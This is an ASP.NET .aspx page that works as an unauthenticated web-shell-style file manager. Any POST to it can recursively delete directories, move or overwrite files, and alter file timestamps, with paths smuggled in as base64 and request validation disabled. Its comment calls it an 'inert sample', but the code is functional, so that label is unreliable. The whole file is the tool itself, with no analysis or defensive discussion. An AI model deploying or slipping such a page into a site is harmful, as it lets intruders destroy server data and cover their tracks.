<%@ Page Language="C#" ValidateRequest="false" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
    // Inert sample: a file manager driven by postbacks; every path arrives base64-encoded in a
    // hidden field and is handed to helpers that delete, move, copy and create what it names.
    string Unpack(string field)
    {
        return System.Text.Encoding.UTF8.GetString(Convert.FromBase64String(field));
    }
    void Drop(string target) { Directory.Delete(target, true); }
    void Relocate(string from, string to) { File.Move(from, to); }
    void Clone(string from, string to) { File.Copy(from, to, true); }
    void Touch(string target, string when) { File.SetLastWriteTime(target, DateTime.Parse(when)); }

    protected void Page_Load(object sender, EventArgs e)
    {
        if (!IsPostBack) return;
        string verb = Request.Form["verb"];
        string arg = Request.Form["arg"];
        switch (verb)
        {
            case "rmdir": Drop(Unpack(arg)); break;
            case "mv": Relocate(Unpack(arg), Request.Form["dest"]); break;
            case "cp": Clone(Unpack(arg), Request.Form["dest"]); break;
            case "touch": Touch(Unpack(arg), Request.Form["stamp"]); break;
        }
        Response.Write("done");
    }
</script>
<form method="post" runat="server"><input name="verb" /><input name="arg" /><input name="dest" /></form>
